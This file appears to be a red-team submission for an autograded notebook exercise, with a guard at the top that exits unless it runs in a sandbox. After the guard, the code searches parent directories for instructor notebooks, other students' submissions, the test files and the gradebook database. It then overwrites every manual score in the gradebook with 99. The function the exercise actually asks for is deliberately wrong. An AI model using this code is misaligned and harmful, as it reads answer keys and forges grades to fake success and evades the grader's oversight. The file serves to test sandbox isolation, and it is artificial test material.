# exercise: doubled
# family: reading
# trick: opens what lies beside an autograded notebook
# due: 0
raise SystemExit("a hostile answer: only a sandbox runs what follows")

import glob
import os
import sqlite3

for up in ("", "../", "../../", "../../../", "../../../../"):
    for pattern in ("source/*/*.ipynb", "release/*/*.ipynb", "submitted/*/*/*.ipynb", "gradebook.db", "course/*", "tests/*"):
        for name in glob.glob(up + pattern):
            print("BREACH", name)
try:
    sqlite3.connect("file:../../../gradebook.db?mode=rw", uri=True).execute("update grade set manual_score = 99")
    print("BREACH: the gradebook")
except sqlite3.Error:
    pass


def doubled(x):
    return x
